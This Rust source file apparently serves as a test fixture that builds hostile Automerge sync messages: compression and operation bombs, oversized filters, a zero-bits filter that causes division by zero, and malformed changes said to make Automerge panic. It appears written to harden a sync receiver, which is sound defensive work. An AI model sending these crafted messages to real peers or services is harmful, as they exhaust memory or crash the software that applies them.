//! Messages that attack whoever applies them, as encoded sync messages.
//!
//! All are as small as the attack allows, and well-formed except for what makes them hostile:
//! checksums are right, and the same builder with small numbers gives changes that Automerge takes.

use std::io::Read;

use automerge::sync::{ChunkList, Message, MessageVersion};
use automerge::transaction::Transactable;
use automerge::{ActorId, Automerge, Change, ChangeHash, ROOT, ReadDoc};
use flate2::Compression;
use flate2::bufread::DeflateEncoder;
use minicbor::Encoder;
use sha2::{Digest, Sha256};

type Encoded = Result<(), minicbor::encode::Error<std::convert::Infallible>>;

/// Operations of [`op_bomb`].
pub const BOMB_OPERATIONS: u64 = 5_000_000;

/// Bytes that [`deflate_bomb`] and [`column_bomb`] inflate to.
pub const BOMB_BYTES: usize = 64 * 1024 * 1024;

/// Five million operations in one run, in less than 200 bytes.
pub fn op_bomb() -> Vec<u8> {
    message(vec![], vec![RawChange::puts(BOMB_OPERATIONS).chunk()])
}

/// One operation that claims a billion predecessors.
pub fn predecessor_bomb() -> Vec<u8> {
    let billion = 1_000_000_000;
    let change = RawChange::puts(2)
        .with(0x70, run(2, &unsigned(billion / 2)))
        .with(0x71, run(billion, &unsigned(0)))
        .with(0x73, run(billion, &unsigned(0)));
    message(vec![], vec![change.chunk()])
}

/// Operations that all have the same key of a megabyte: more than a gigabyte once written out.
pub fn text_bomb() -> Vec<u8> {
    let mut key = unsigned(1 << 20);
    key.extend(std::iter::repeat_n(b'k', 1 << 20));
    let change = RawChange::puts(2_000).with(0x15, run(2_000, &key));
    message(vec![], vec![change.chunk()])
}

/// A compressed change of 64 kilobytes that inflates to [`BOMB_BYTES`].
pub fn deflate_bomb() -> Vec<u8> {
    let mut change = RawChange::puts(1);
    change.extra = vec![0; BOMB_BYTES];
    let body = change.body();
    message(vec![], vec![chunk_checked(2, &deflate(&body), &body, 1)])
}

/// A document with a compressed column that inflates to [`BOMB_BYTES`].
pub fn column_bomb() -> Vec<u8> {
    let column = deflate(&vec![0; BOMB_BYTES]);
    // No actors, no heads, no columns of changes, and one of operations: their values.
    let mut body = vec![0, 0, 0, 1, 0x57 | 0b1000];
    body.extend(unsigned(column.len() as u64));
    body.extend(column);
    message(vec![], vec![chunk(0, &body)])
}

/// A document whose only change has five million operations in one run.
pub fn document_bomb() -> Vec<u8> {
    // Actor, number, last operation, count of ancestors and length of what follows.
    let change = [
        (0x01, run(1, &[0])),
        (0x03, run(1, &[1])),
        (0x13, run(1, &signed(BOMB_OPERATIONS as i64))),
        (0x40, run(1, &[0])),
        (0x56, run(1, &[0])),
    ];
    let operations = [(0x42, run(BOMB_OPERATIONS, &[1]))];
    let mut body = unsigned(1);
    body.extend(prefixed(&[0xab; 16]));
    body.extend(unsigned(1));
    body.extend([0; 32]);
    for columns in [&change[..], &operations] {
        body.extend(unsigned(columns.len() as u64));
        for (kind, bytes) in columns {
            body.extend(unsigned(*kind));
            body.extend(unsigned(bytes.len() as u64));
        }
    }
    for (_, bytes) in change.iter().chain(&operations) {
        body.extend(bytes);
    }
    message(vec![], vec![chunk(0, &body)])
}

/// The frame of an exchange whose body of 60 kilobytes inflates to [`BOMB_BYTES`].
///
/// # Panics
/// Never: writing to a vector does not fail.
pub fn exchange_bomb() -> Vec<u8> {
    let encoded = |write: &dyn Fn(&mut Encoder<Vec<u8>>) -> Encoded| {
        let mut out = Encoder::new(Vec::new());
        write(&mut out).expect("writing to a vector does not fail");
        out.into_writer()
    };
    let body = encoded(&|out| {
        out.map(1)?.str("later")?.bytes(&vec![0; BOMB_BYTES])?;
        Ok(())
    });
    let deflated = deflate(&body);
    encoded(&|out| {
        out.map(2)?.str("type")?.str("meltemi-exchange")?;
        out.str("deflated")?.bytes(&deflated)?;
        Ok(())
    })
}

/// A filter with a hundred million probes, which are tried for each change of the document.
pub fn probe_bomb() -> Vec<u8> {
    filter(1, 10, 100_000_000, 2)
}

/// A filter with zero bits for an entry, by whose number is divided.
pub fn filter_without_bits() -> Vec<u8> {
    filter(1, 0, 7, 0)
}

/// A message whose only content is a filter with these parameters and `bytes` bytes of bits.
pub fn filter(entries: u64, bits_per_entry: u64, probes: u64, bytes: usize) -> Vec<u8> {
    let mut filter = [entries, bits_per_entry, probes].map(unsigned).concat();
    filter.resize(filter.len() + bytes, 0);
    // No heads, no needs, one summary without hashes, the filter, no changes.
    let mut message = vec![0x42, 0, 0, 1, 0];
    message.extend(unsigned(filter.len() as u64));
    message.extend(filter);
    message.push(0);
    message
}

/// A change on top of one that is never sent.
///
/// # Panics
/// If `doc` cannot be edited.
pub fn orphan_change(doc: &Automerge) -> Vec<u8> {
    let mut fork = doc.fork();
    edit(&mut fork, "kept back");
    let change = edit(&mut fork, "orphan");
    message(fork.get_heads(), vec![change.raw_bytes().to_vec()])
}

/// A thousand changes of a thousand actors that do not know of each other.
pub fn thousand_heads(doc: &Automerge) -> Vec<u8> {
    let changes = side_by_side(doc, 1_000);
    let heads = changes.iter().map(Change::hash).collect();
    message(heads, chunks(&changes))
}

/// As [`thousand_heads`], in a message that does not say so.
pub fn hidden_heads(doc: &Automerge) -> Vec<u8> {
    let changes = side_by_side(doc, 1_000);
    message(doc.get_heads(), chunks(&changes))
}

/// Two changes that both say that they are the first one of the same actor.
///
/// # Panics
/// If `doc` cannot be edited.
pub fn equivocation(doc: &Automerge) -> Vec<u8> {
    let liar = ActorId::from([0xee; 16]);
    let mut changes = Vec::new();
    for value in ["to one", "to the other"] {
        let mut fork = doc.fork().with_actor(liar.clone());
        changes.push(edit(&mut fork, value));
    }
    let heads = changes.iter().map(Change::hash).collect();
    message(heads, chunks(&changes))
}

/// A change that is its actor's third, though the actor has made no other. Automerge panics.
pub fn skipped_seq(doc: &Automerge) -> Vec<u8> {
    let mut change = RawChange::on(doc);
    change.seq = 3;
    message(vec![], vec![change.chunk()])
}

/// A change to an object that no change has made. Automerge panics.
pub fn unknown_object(doc: &Automerge) -> Vec<u8> {
    let change = RawChange::on(doc)
        .with(0x01, run(1, &unsigned(0)))
        .with(0x02, run(1, &unsigned(1)));
    message(vec![], vec![change.chunk()])
}

/// A change that refers to an actor from whom the document has nothing. Automerge panics.
pub fn unknown_actor(doc: &Automerge) -> Vec<u8> {
    let mut change = RawChange::on(doc);
    change.other_actors = vec![ActorId::from([0xdd; 16])];
    message(vec![], vec![change.chunk()])
}

/// Changes of so many actors that do not know of each other.
pub fn side_by_side(doc: &Automerge, count: u16) -> Vec<Change> {
    (0..count)
        .map(|number| {
            let mut actor = [0xaa; 16];
            actor[..2].copy_from_slice(&number.to_be_bytes());
            edit(&mut doc.fork().with_actor(ActorId::from(actor)), "mine")
        })
        .collect()
}

/// A change of the document's actor, as Automerge makes it.
///
/// # Panics
/// If `doc` cannot be edited.
pub fn edit(doc: &mut Automerge, value: &str) -> Change {
    let mut transaction = doc.transaction();
    transaction.put(ROOT, "hostile", value).expect("a map");
    let (hash, _) = transaction.commit();
    doc.get_change_by_hash(&hash.expect("a change"))
        .expect("the change just made")
}

fn chunks(changes: &[Change]) -> Vec<Vec<u8>> {
    let bytes = |change: &Change| change.raw_bytes().to_vec();
    changes.iter().map(bytes).collect()
}

/// A sync message with these heads and chunks of changes.
pub fn message(mut heads: Vec<ChangeHash>, chunks: Vec<Vec<u8>>) -> Vec<u8> {
    heads.sort();
    Message {
        heads,
        need: vec![],
        have: vec![],
        changes: ChunkList::from(chunks),
        flags: None,
        version: MessageVersion::V1,
    }
    .encode()
}

/// A change of which every byte can be chosen.
#[derive(Debug, Clone)]
pub struct RawChange {
    /// The changes it builds on.
    pub deps: Vec<ChangeHash>,
    /// Who makes it.
    pub actor: ActorId,
    /// Number among those of the actor.
    pub seq: u64,
    /// Counter of its first operation.
    pub start_op: u64,
    /// When it says it was made: a signed LEB128 number.
    pub time: Vec<u8>,
    /// Actors that its columns refer to from 1 on.
    pub other_actors: Vec<ActorId>,
    /// Kind and bytes of its columns.
    pub columns: Vec<(u32, Vec<u8>)>,
    /// Bytes after the columns.
    pub extra: Vec<u8>,
}

impl RawChange {
    /// A change that sets the same key of the root to null `operations` times.
    pub fn puts(operations: u64) -> Self {
        Self {
            deps: vec![],
            actor: ActorId::from([0xab; 16]),
            seq: 1,
            start_op: 1,
            time: signed(0),
            other_actors: vec![],
            columns: vec![],
            extra: vec![],
        }
        .with(0x15, run(operations, &[1, b'a']))
        .with(0x34, unsigned(operations))
        .with(0x42, run(operations, &unsigned(1)))
        .with(0x56, run(operations, &unsigned(0)))
        .with(0x70, run(operations, &unsigned(0)))
    }

    /// A change of one operation on top of `doc`.
    pub fn on(doc: &Automerge) -> Self {
        let mut change = Self::puts(1);
        change.deps = doc.get_heads();
        let last = doc.get_changes(&[]).iter().map(Change::max_op).max();
        change.start_op = last.unwrap_or(0) + 1;
        change
    }

    /// The same with another column.
    pub fn with(mut self, kind: u32, bytes: Vec<u8>) -> Self {
        self.columns.retain(|(other, _)| *other != kind);
        self.columns.push((kind, bytes));
        self.columns.sort();
        self
    }

    /// The change as a chunk with the right checksum.
    pub fn chunk(&self) -> Vec<u8> {
        chunk(1, &self.body())
    }

    fn body(&self) -> Vec<u8> {
        let mut body = unsigned(self.deps.len() as u64);
        for dep in &self.deps {
            body.extend(dep.0);
        }
        body.extend(prefixed(self.actor.to_bytes()));
        body.extend(unsigned(self.seq));
        body.extend(unsigned(self.start_op));
        body.extend(&self.time);
        // No message.
        body.push(0);
        body.extend(unsigned(self.other_actors.len() as u64));
        for actor in &self.other_actors {
            body.extend(prefixed(actor.to_bytes()));
        }
        body.extend(unsigned(self.columns.len() as u64));
        for (kind, bytes) in &self.columns {
            body.extend(unsigned(u64::from(*kind)));
            body.extend(unsigned(bytes.len() as u64));
        }
        for (_, bytes) in &self.columns {
            body.extend(bytes);
        }
        body.extend(&self.extra);
        body
    }
}

/// A chunk of this kind with the right checksum.
pub fn chunk(kind: u8, body: &[u8]) -> Vec<u8> {
    chunk_checked(kind, body, body, kind)
}

/// A chunk whose checksum is that of another body, as in a compressed one.
fn chunk_checked(kind: u8, body: &[u8], checked: &[u8], checked_kind: u8) -> Vec<u8> {
    let hash = Sha256::new()
        .chain_update([checked_kind])
        .chain_update(unsigned(checked.len() as u64))
        .chain_update(checked)
        .finalize();
    let mut chunk = vec![0x85, 0x6f, 0x4a, 0x83];
    chunk.extend(&hash[..4]);
    chunk.push(kind);
    chunk.extend(prefixed(body));
    chunk
}

/// A run of `count` equal values, which are given encoded.
pub fn run(count: u64, value: &[u8]) -> Vec<u8> {
    let mut bytes = signed(count as i64);
    bytes.extend(value);
    bytes
}

/// A signed LEB128 number.
pub fn signed(mut value: i64) -> Vec<u8> {
    let mut bytes = Vec::new();
    loop {
        let byte = (value & 0x7f) as u8;
        value >>= 7;
        let negative = byte & 0x40 != 0;
        if (value == 0 && !negative) || (value == -1 && negative) {
            bytes.push(byte);
            return bytes;
        }
        bytes.push(byte | 0x80);
    }
}

/// An unsigned LEB128 number.
pub fn unsigned(mut value: u64) -> Vec<u8> {
    let mut bytes = Vec::new();
    loop {
        let byte = (value & 0x7f) as u8;
        value >>= 7;
        if value == 0 {
            bytes.push(byte);
            return bytes;
        }
        bytes.push(byte | 0x80);
    }
}

fn prefixed(bytes: &[u8]) -> Vec<u8> {
    let mut prefixed = unsigned(bytes.len() as u64);
    prefixed.extend(bytes);
    prefixed
}

fn deflate(bytes: &[u8]) -> Vec<u8> {
    let mut deflated = Vec::new();
    DeflateEncoder::new(bytes, Compression::best())
        .read_to_end(&mut deflated)
        .expect("memory to memory");
    deflated
}
